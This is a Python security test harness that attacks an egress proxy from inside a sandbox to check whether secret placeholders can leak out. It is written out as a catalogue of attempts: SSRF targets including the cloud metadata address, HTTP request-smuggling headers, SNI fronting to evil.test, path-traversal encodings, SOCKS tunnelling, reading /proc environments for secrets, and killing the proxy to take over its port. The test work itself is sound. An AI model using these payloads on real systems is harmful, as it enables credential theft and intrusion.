"""What a hostile program inside tries on the way outside: prints one JSON object, name → [verdict, what it saw].

Run inside the hands by the system's Python with the standard library only. `host.json` beside it says whom there is to
attack. The verdict is `blocked` when the wall held, `LEAK` when not; the driver also looks into what was seen, and at
what reached the servers, for values that nobody in here must know.
"""

from __future__ import annotations

import base64
import errno
import glob
import json
import os
import signal
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

HOST: dict[str, Any] = json.loads(open("/workspace/host.json").read())
KEY = os.environ["KEY"]
GIT = os.environ["GIT"]
PORT = 3128
API, OPEN, EVIL, PLAIN = "api.test", "open.test", "evil.test", "plain.test"
FOUND: dict[str, list[str]] = {}
Attempt = Callable[[], object]


def attempt(name: str) -> Callable[[Attempt], Attempt]:
    """Register: a truthy return or a failed assertion is a leak; an OSError means that nothing got through."""

    def run(step: Attempt) -> Attempt:
        SEEN.clear()
        try:
            leak = step()
            verdict = "LEAK" if leak else "blocked"
        except OSError as error:
            leak, verdict = error, "blocked"
        except AssertionError as error:
            leak, verdict = error, "LEAK"
        except Exception as error:
            leak, verdict = f"{type(error).__name__}: {error}", "broken"
        FOUND[name] = [verdict, f"{leak} | {b' '.join(SEEN)[:3000].decode('latin-1')}"]
        return step

    return run


SEEN: list[bytes] = []


def dial() -> socket.socket:
    """A connection to the proxy."""
    return socket.create_connection(("127.0.0.1", PORT), timeout=10)


def listen(sock: socket.socket) -> bytes:
    """All that comes until the end, or for as long as something comes."""
    said = b""
    sock.settimeout(1.0)
    try:
        while data := sock.recv(65536):
            said += data
            if len(said) > 300_000:
                break
    except OSError:
        pass
    SEEN.append(said)
    return said


def raw(data: bytes) -> bytes:
    """Say that to the proxy, and hear the answer."""
    with dial() as sock:
        sock.sendall(data)
        return listen(sock)


def status(said: bytes) -> int:
    """The status of the first answer; 0 for none."""
    first = said.split(b"\r\n")[0].split(b" ")
    return int(first[1]) if len(first) > 1 and first[0].startswith(b"HTTP/") and first[1].isdigit() else 0


def connect(target: str, host: str | None = None) -> tuple[socket.socket, bytes]:
    """Ask for a tunnel; the socket and the answer."""
    sock = dial()
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n\r\n".encode())
    said = b""
    while b"\r\n\r\n" not in said:
        data = sock.recv(4096)
        if not data:
            break
        said += data
    SEEN.append(said)
    return sock, said


def refused(data: bytes, *codes: int) -> bool:
    """True when that was let through: anything but one of these answers, or none at all."""
    found = status(raw(data))
    return found not in (codes or (400, 403, 421)) and found != 0


def no_tunnel(target: str) -> bool:
    """True when that tunnel was made."""
    sock, said = connect(target)
    sock.close()
    return status(said) == 200


def secure(host: str, target: str | None = None, sni: str | None = None) -> ssl.SSLSocket:
    """A TLS connection through a tunnel."""
    sock, said = connect(target or f"{host}:443")
    if status(said) != 200:
        sock.close()
        raise OSError(errno.ECONNREFUSED, said.decode("latin-1"))
    context = ssl.create_default_context(cafile="/run/egress/ca.pem")
    context.check_hostname = sni is None
    return context.wrap_socket(sock, server_hostname=sni or host)


def inside(data: bytes, host: str = API) -> bytes:
    """Say that in a tunnel to the host, and hear the answer."""
    with secure(host) as sock:
        sock.sendall(data)
        return listen(sock)


def request(
    path: str = "/", *headers: str, method: str = "GET", body: bytes = b"", host: str = API, key: bool = True
) -> bytes:
    """A request as a program would make it, with the placeholder where it belongs."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", *headers, "Connection: close"]
    if key:
        lines.append(f"Authorization: Bearer {KEY}")
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def rejected(said: bytes, *codes: int) -> bool:
    """True when that is anything but a refusal of the proxy's own."""
    return status(said) not in (codes or (400, 403, 421)) or b"X-Holdfast: refused" not in said


# --- what has to work, or nothing here means anything ---


@attempt("P01 a legitimate call")
def _legitimate() -> object:
    said = inside(request("/fine"))
    return not (status(said) == 200 and b'"path": "/fine"' in said)


@attempt("works: an opaque tunnel")
def _opaque() -> object:
    return status(inside(request("/fine", host=OPEN, key=False), OPEN)) != 200


@attempt("works: plain requests where they are allowed")
def _plain() -> object:
    return status(raw(f"GET http://{PLAIN}/deb HTTP/1.1\r\nHost: {PLAIN}\r\nConnection: close\r\n\r\n".encode())) != 200


@attempt("works: two requests on one connection")
def _two() -> object:
    one = request("/one").replace(b"Connection: close\r\n", b"")
    return inside(one + request("/two")).count(b"HTTP/1.1 200") != 2


# --- answers that give the secret back ---


@attempt("P02 reflected in body and header")
def _reflected() -> object:
    said = inside(request("/reflect"))
    return status(said) != 200 or b"x-reflected" not in said


@attempt("P27 reflected in gzip")
def _gzip() -> object:
    return rejected(inside(request("/gzip", "Accept-Encoding: gzip")), 502)


@attempt("P28 reflected in ranges")
def _ranges() -> object:
    return b"206" in b"".join(inside(request("/range", f"Range: bytes={at}-{at + 3}"))[:16] for at in (0, 4, 8, 12))


@attempt("107 reflected in base64 and hex")
def _encoded() -> object:
    return status(inside(request("/encoded"))) != 200


@attempt("107 reflected byte by byte")
def _pieces() -> object:
    return status(inside(request("/pieces"))) != 200


@attempt("reflected to a later request without the placeholder")
def _later() -> object:
    return status(inside(request("/stored", key=False))) != 200


# --- the placeholder in other places ---


@attempt("P03 the placeholder to another allowed host")
def _other_host() -> object:
    return HOST["canary"] in inside(request("/x", host=OPEN), OPEN).decode("latin-1")


@attempt("P16 the placeholder in the address")
def _in_url() -> object:
    return rejected(inside(request(f"/x?key={KEY}", key=False)))


@attempt("P16 the placeholder in the address, encoded")
def _in_url_encoded() -> object:
    coded = "".join(f"%{ord(char):02x}" for char in KEY)
    return rejected(inside(request(f"/x/{coded}", key=False)))


@attempt("P17 the placeholder in another header")
def _in_header() -> object:
    return rejected(inside(request("/x", f"X-Api-Key: {KEY}", key=False)))


@attempt("P17 the placeholder in a header's name")
def _in_name() -> object:
    return rejected(inside(request("/x", f"{KEY}: 1", key=False)))


@attempt("P17 the placeholder in a cookie")
def _in_cookie() -> object:
    return rejected(inside(request("/x", f"Cookie: a={KEY}")))


@attempt("P17 the placeholder as a password where it is a bearer")
def _as_password() -> object:
    basic = base64.b64encode(f"user:{KEY}".encode()).decode()
    return rejected(inside(request("/x", f"Authorization: Basic {basic}", key=False)))


@attempt("P17 a password's placeholder as a bearer")
def _as_bearer() -> object:
    return rejected(inside(request("/x", f"Authorization: Bearer {GIT}", key=False)))


@attempt("P17 a password's placeholder as the user")
def _as_user() -> object:
    basic = base64.b64encode(f"{GIT}:x".encode()).decode()
    return rejected(inside(request("/git", f"Authorization: Basic {basic}", key=False)))


@attempt("P17 two headers that take a secret")
def _twice() -> object:
    return rejected(inside(request("/x", f"Authorization: Bearer {KEY}")))


@attempt("P18 the placeholder in the body")
def _in_body() -> object:
    return rejected(inside(request("/x", method="POST", body=f"key={KEY}".encode(), key=False)))


@attempt("P18 the placeholder in pieces of the body")
def _in_chunks() -> object:
    half = len(KEY) // 2
    head = f"POST /x HTTP/1.1\r\nHost: {API}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    chunks = "".join(f"{len(part):x}\r\n{part}\r\n" for part in (KEY[:half], KEY[half:]))
    with secure(API) as sock:
        sock.sendall(head.encode())
        for char in f"{chunks}0\r\n\r\n".encode():
            try:
                sock.sendall(bytes([char]))
            except OSError:
                break
        return rejected(listen(sock))


@attempt("P18 the placeholder in a trailer")
def _in_trailer() -> object:
    head = f"POST /trailer HTTP/1.1\r\nHost: {API}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    inside(f"{head}1\r\nx\r\n0\r\nX-Key: {KEY}\r\n\r\n".encode())
    return False


@attempt("P25 a plain request with the placeholder")
def _plain_key() -> object:
    return refused(f"GET http://{PLAIN}/x HTTP/1.1\r\nHost: {PLAIN}\r\nAuthorization: Bearer {KEY}\r\n\r\n".encode())


@attempt("P25 a plain request to the host of the secret")
def _plain_api() -> object:
    return refused(f"GET http://{API}/x HTTP/1.1\r\nHost: {API}\r\nAuthorization: Bearer {KEY}\r\n\r\n".encode())


@attempt("the placeholder where a tunnel is asked for")
def _connect_key() -> object:
    return refused(f"CONNECT {OPEN}:443 HTTP/1.1\r\nHost: {OPEN}:443\r\nProxy-Authorization: {KEY}\r\n\r\n".encode())


@attempt("108 a placeholder of another session")
def _other_session() -> object:
    said = inside(request("/x", f"Authorization: Bearer {HOST['other']}", key=False))
    return rejected(said)


@attempt("a made-up placeholder")
def _made_up() -> object:
    return rejected(inside(request("/x", f"Authorization: Bearer hfp_{'0' * 32}", key=False)))


@attempt("an expired secret")
def _expired() -> object:
    return rejected(inside(request("/x", f"X-Old: {os.environ['OLD']}", key=False)), 502)


@attempt("a secret that nobody has")
def _missing() -> object:
    return rejected(inside(request("/x", f"X-Gone: {os.environ['GONE']}", key=False)), 502)


@attempt("a held secret")
def _held() -> object:
    said = inside(request("/x", f"X-Held: {os.environ['HELD']}", key=False))
    return rejected(said) or b"approval" not in said


# --- other hosts ---


@attempt("P04 a Host that is not the tunnel's")
def _host() -> object:
    return rejected(inside(request("/x", host=EVIL)), 421)


@attempt("P24 a second request with another Host")
def _pipelined() -> object:
    one = request("/one").replace(b"Connection: close\r\n", b"")
    said = inside(one + request("/two", host=EVIL))
    return said.count(b"HTTP/1.1 200") != 1 or b"HTTP/1.1 421" not in said


@attempt("P05 a tunnel elsewhere, with the right name inside")
def _elsewhere() -> object:
    return no_tunnel(f"{EVIL}:443")


@attempt("P05 another name in TLS than the tunnel's, taken apart")
def _sni() -> object:
    with secure(API, sni=EVIL) as sock:
        sock.sendall(request("/x"))
        return listen(sock)


@attempt("P05 another name in TLS than the tunnel's, opaque")
def _front() -> object:
    with secure(OPEN, sni=EVIL) as sock:
        sock.sendall(request("/front", key=False))
        return listen(sock)


@attempt("P05 the same, its first message in small pieces")
def _front_slowly() -> object:
    sock, said = connect(f"{OPEN}:443")
    assert status(said) == 200
    out, into = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context(cafile="/run/egress/ca.pem").wrap_bio(into, out, server_hostname=EVIL)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = out.read()
    for at in range(0, len(hello), 50):
        sock.sendall(hello[at : at + 50])
    return listen(sock)


@attempt("P06 an absolute address in a tunnel")
def _absolute() -> object:
    return rejected(inside(request(f"https://{EVIL}/x")))


@attempt("P20 a redirect elsewhere")
def _redirect() -> object:
    said = inside(request(f"/redirect?to=https://{EVIL}/"))
    return status(said) != 302 or no_tunnel(f"{EVIL}:443")


for name, target in {
    "P07 a host that is not listed": f"{EVIL}:443",
    "P07 a host below a listed one": f"evil.{OPEN}:443",
    "P07 a host above a listed one": "test:443",
    "P07 a listed one at the end": f"evil-{OPEN}:443",
    "P07 a listed one at the beginning": f"{OPEN}.{EVIL}:443",
    "P08 a zero byte": f"{OPEN}\0.{EVIL}:443",
    "P08 a zero byte, the other way": f"{EVIL}\0.{OPEN}:443",
    "P08 a zero byte, encoded": f"{EVIL}%00.{OPEN}:443",
    "P09 a user": f"{OPEN}@{EVIL}:443",
    "P09 a user, the other way": f"{EVIL}@{OPEN}:443",
    "P09 a user with a password": f"{OPEN}:443@{EVIL}:443",
    "P10 another port": f"{OPEN}:8443",
    "P10 port 22": f"{OPEN}:22",
    "P10 a port with a zero before it": f"{OPEN}:0443",
    "P10 a port past the end": f"{OPEN}:65979",
    "P10 a port with a sign": f"{OPEN}:+443",
    "P10 no port": f"{OPEN}",
    "P10 two ports": f"{OPEN}:443:443",
    "P11 loopback": "127.0.0.1:443",
    "P11 loopback by name": "localhost:443",
    "P11 loopback, IPv6": "[::1]:443",
    "P11 loopback, mapped": "[::ffff:127.0.0.1]:443",
    "P11 any address": "0.0.0.0:443",
    "P12 metadata": "169.254.169.254:80",
    "P12 metadata, IPv6": "[fd00:ec2::254]:80",
    "P13 a decimal address": "2130706433:443",
    "P13 a hexadecimal address": "0x7f000001:443",
    "P13 an octal address": "0177.0.0.1:443",
    "P13 a short address": "127.1:443",
    "P14 a trailing dot": f"{OPEN}.:443",
    "P14 two dots": "open..test:443",
    "a blank": f"{OPEN} .{EVIL}:443",
    "a tab": f"{OPEN}\t:443",
    "a line end in the host": f"{OPEN}:443 HTTP/1.1\r\nX: y\r\n\r\nCONNECT {EVIL}:443",
    "a letter that looks the same": "\u043epen.test:443",
    "full-width letters": "\uff4fpen.test:443",
    "a full-width dot": "open\u3002test:443",
    "punycode": "xn--pen-2ya.test:443",
    "an IPv6 zone": "[fe80::1%25lo]:443",
    "a scheme": f"https://{OPEN}:443",
    "a path": f"{OPEN}:443/x",
    "a fragment": f"{EVIL}#{OPEN}:443",
    "a backslash": f"{EVIL}\\{OPEN}:443",
    "an encoded dot": "open%2etest:443",
    "106 a name that leads to loopback": "bad0.test:443",
    **{f"106 a name that leads to {address}": f"bad{at}.test:443" for at, address in enumerate(HOST["bad"])},
}.items():

    @attempt(name)
    def _tunnel(target: str = target) -> object:
        return no_tunnel(target)


@attempt("P15 upper case is the same host")
def _upper() -> object:
    sock, said = connect(f"{OPEN.upper()}:443")
    sock.close()
    other, refusal = connect(f"{EVIL.upper()}:443")
    other.close()
    return status(said) != 200 or status(refusal) == 200


@attempt("106 a name that leads elsewhere the second time")
def _rebound() -> object:
    first = inside(request("/first", host="rebind.test", key=False), "rebind.test")
    return status(first) != 200 or no_tunnel("rebind.test:443")


@attempt("a CONNECT whose Host is another one")
def _connect_host() -> object:
    sock, said = connect(f"{OPEN}:443", EVIL)
    sock.close()
    return status(said) == 200


@attempt("a CONNECT with a body")
def _connect_body() -> object:
    return refused(f"CONNECT {OPEN}:443 HTTP/1.1\r\nHost: {OPEN}:443\r\nContent-Length: 5\r\n\r\nhello".encode())


@attempt("a CONNECT inside a tunnel")
def _connect_twice() -> object:
    return rejected(inside(f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n".encode()))


@attempt("TLS before the tunnel's answer")
def _early() -> object:
    return refused(f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}:443\r\n\r\n\x16\x03\x01".encode("latin-1"))


# --- bytes of two meanings ---

SMUGGLED = f"GET /smuggled HTTP/1.1\r\nHost: {API}\r\n\r\n"

for name, lines in {
    "P21 a length and a coding": "Content-Length: 6\r\nTransfer-Encoding: chunked",
    "P21 a coding and a length": "Transfer-Encoding: chunked\r\nContent-Length: 60",
    "P21 two lengths": "Content-Length: 5\r\nContent-Length: 60",
    "P21 two lengths in one": "Content-Length: 5, 60",
    "P21 a length with a sign": "Content-Length: +5",
    "P21 a length in hexadecimal": "Content-Length: 0x5",
    "P21 a negative length": "Content-Length: -5",
    "P21 a coding that is none": "Transfer-Encoding: xchunked",
    "P21 two codings": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "P21 codings in a list": "Transfer-Encoding: gzip, chunked",
    "P21 a coding with a vertical tab": "Transfer-Encoding: \x0bchunked",
    "P21 a blank before the colon": "Transfer-Encoding : chunked",
    "P21 a length after a bare line end": "X: y\nContent-Length: 5",
    "P21 a length after a bare return": "X: y\rContent-Length: 5",
    "P22 two Hosts": f"Host: {EVIL}",
    "P22 two Hosts that agree": f"Host: {API}",
    "P23 a folded header": f"X: y\r\n Host: {EVIL}",
    "P23 a folded header with a tab": "Transfer-Encoding:\r\n\tchunked",
    "P29 a websocket": "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: eA==",
    "P29 HTTP/2 over an upgrade": "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AA",
    "a header that names headers to drop": "Connection: authorization",
    "a header name of nothing": ": x",
    "a header line without a colon": "nothing",
    "a zero byte in a header": "X: a\0b",
    "an expectation that nobody knows": "Expect: 200-ok",
}.items():

    @attempt(name)
    def _framing(lines: str = lines) -> object:
        head = f"POST /framing HTTP/1.1\r\nHost: {API}\r\nAuthorization: Bearer {KEY}\r\n{lines}\r\n\r\n"
        return rejected(inside(f"{head}0\r\n\r\n{SMUGGLED}".encode("latin-1")), 400, 417)


for name, body in {
    "P21 a chunk of a wrong size": "5\r\nhelloworld\r\n0\r\n\r\n",
    "P21 a chunk of a negative size": "-1\r\nx\r\n0\r\n\r\n",
    "P21 a chunk of an endless size": "fffffffffffffffffffff\r\nx\r\n0\r\n\r\n",
    "P21 a chunk's bare line end": "5\nhello\n0\n\n",
}.items():

    @attempt(name)
    def _chunks(body: str = body) -> object:
        head = f"POST /chunks HTTP/1.1\r\nHost: {API}\r\nTransfer-Encoding: chunked\r\n\r\n"
        return status(inside(f"{head}{body}{SMUGGLED}".encode())) == 200


@attempt("P19 TRACE")
def _trace() -> object:
    return rejected(inside(request("/x", method="TRACE")), 405)


@attempt("P30 the preface of HTTP/2")
def _preface() -> object:
    return rejected(inside(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 505) or rejected(raw(b"PRI * HTTP/2.0\r\n\r\n"), 505)


@attempt("P30 HTTP/2 in the handshake")
def _alpn() -> object:
    sock, said = connect(f"{API}:443")
    assert status(said) == 200
    context = ssl.create_default_context(cafile="/run/egress/ca.pem")
    context.set_alpn_protocols(["h2", "http/1.1"])
    with context.wrap_socket(sock, server_hostname=API) as tls:
        return tls.selected_alpn_protocol() != "http/1.1"


@attempt("P31 a header of 200 KB")
def _long() -> object:
    return rejected(inside(request("/x", f"X: {'y' * 200_000}")), 431)


@attempt("P31 a head that never ends")
def _endless() -> object:
    return refused(b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20_000, 431)


@attempt("P31 too many headers")
def _many() -> object:
    return rejected(inside(request("/x", *(f"X-{at}: y" for at in range(500)))), 431)


@attempt("an answer that changes the protocol")
def _switch() -> object:
    return rejected(inside(request("/switch")), 502)


@attempt("SOCKS 5")
def _socks() -> object:
    name = f"{OPEN}\0.{EVIL}".encode()
    said = raw(b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack(">H", 443))
    return said.startswith(b"\x05")


@attempt("SOCKS 4a")
def _socks4() -> object:
    return raw(b"\x04\x01\x01\xbb\x00\x00\x00\x01x\x00" + EVIL.encode() + b"\x00").startswith(b"\x00\x5a")


# --- rules of methods and paths ---


for name, path in {
    "a path that is not allowed": "/secret",
    "dot segments": "/free/../secret",
    "encoded dot segments": "/free/%2e%2e/secret",
    "half-encoded dot segments": "/free/.%2e/secret",
    "dot segments encoded twice": "/free/%252e%252e/secret",
    "an encoded slash": "/free/..%2fsecret",
    "a backslash": "/free/..\\secret",
    "an encoded backslash": "/free/..%5csecret",
    "two slashes": "/free//secret",
    "dot segments with a parameter": "/free/..;/secret",
    "an encoded zero byte": "/free/%00/../secret",
    "an encoded line end": "/free/%0d%0a",
    "a broken encoding": "/free/%zz",
    "another case": "/FREE/x",
}.items():

    @attempt(f"paths: {name}")
    def _path(path: str = path) -> object:
        return rejected(inside(request(path, host="rules.test", key=False), "rules.test"))


@attempt("paths: what is allowed")
def _allowed_path() -> object:
    said = [
        inside(request(path, host="rules.test", key=False), "rules.test") for path in ("/free/x", "/fr%65e/y?a=/../b")
    ]
    return [status(one) for one in said] != [200, 200]


@attempt("methods: another one")
def _method() -> object:
    return rejected(inside(request("/free/x", method="DELETE", host="rules.test", key=False), "rules.test"))


@attempt("methods: another one by a header")
def _override() -> object:
    said = inside(request("/free/x", "X-HTTP-Method-Override: DELETE", host="rules.test", key=False), "rules.test")
    return rejected(said)


@attempt("methods: in small letters")
def _small() -> object:
    return rejected(inside(request("/free/x", method="get", host="rules.test", key=False), "rules.test"))


@attempt("the secret outside its paths")
def _use_path() -> object:
    basic = base64.b64encode(f"x:{GIT}".encode()).decode()
    good = inside(request("/git/x", f"Authorization: Basic {basic}", key=False))
    return status(good) != 200 or rejected(inside(request("/x", f"Authorization: Basic {basic}", key=False)))


# --- the walls themselves ---


@attempt("P26 the proxy's memory and environment")
def _processes() -> object:
    found = b""
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            found += open(path, "rb").read()
        except OSError:
            continue
    return HOST["canary"].encode() in found or b"holdfast.egress" in found


@attempt("P32 straight outside")
def _straight() -> object:
    for address in ("93.184.216.34", "1.1.1.1", HOST["upstream"][0]):
        for port in (443, 80, HOST["upstream"][1]):
            with socket.socket() as sock:
                sock.settimeout(1)
                if sock.connect_ex((address, port)) == 0:
                    return f"{address}:{port}"
    return None


@attempt("P32 straight outside by name")
def _names() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\3api\4test\0\0\1\0\1", ("1.1.1.1", 53))
        return sock.recv(512)


@attempt("P33 writing beside the socket")
def _write() -> object:
    done = []
    for step in (
        lambda: open("/run/egress/new", "w"),
        lambda: os.unlink("/run/egress/s"),
        lambda: os.rename("/run/egress/s", "/run/egress/t"),
        lambda: open("/run/egress/ca.pem", "r+"),
        lambda: os.symlink("/tmp", "/run/egress/l"),
        lambda: os.chmod("/run/egress/s", 0o777),
    ):
        try:
            step()
            done.append(step)
        except OSError:
            continue
    return done


@attempt("the control socket and the journal")
def _control() -> object:
    return sorted(os.listdir("/run/egress")) != ["apt.conf", "ca.pem", "s"]


@attempt("control words at the hands' socket")
def _orders() -> object:
    return b"ok" in raw(b'{"verb":"close"}\n')


def bridge() -> int:
    """The pid of the bridge: the child of the first process that has no children of its own."""
    parents = {}
    for path in glob.glob("/proc/[0-9]*/stat"):
        fields = open(path).read().rpartition(")")[2].split()
        parents[int(path.split("/")[2])] = int(fields[1])
    return next(pid for pid, parent in parents.items() if parent == 1 and pid not in parents.values())


@attempt("the bridge's memory")
def _memory() -> object:
    pid = bridge()
    assert pid > 1
    for name in ("mem", "maps", "environ", "fd"):
        try:
            if name == "fd":
                os.listdir(f"/proc/{pid}/fd")
            else:
                open(f"/proc/{pid}/{name}", "rb").read(1)
            return name
        except OSError:
            continue
    return None


@attempt("a bridge in place of the bridge")
def _replace() -> object:
    pid = bridge()
    os.kill(pid, signal.SIGKILL)
    with socket.socket() as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            sock.bind(("127.0.0.1", PORT))
            return "bound"
        except OSError:
            pass
    end = time.monotonic() + 10
    while time.monotonic() < end:
        try:
            if status(inside(request("/after"))) == 200:
                return None
        except OSError:
            continue
    return "the way outside did not come back"


if __name__ == "__main__":
    json.dump(FOUND, sys.stdout)
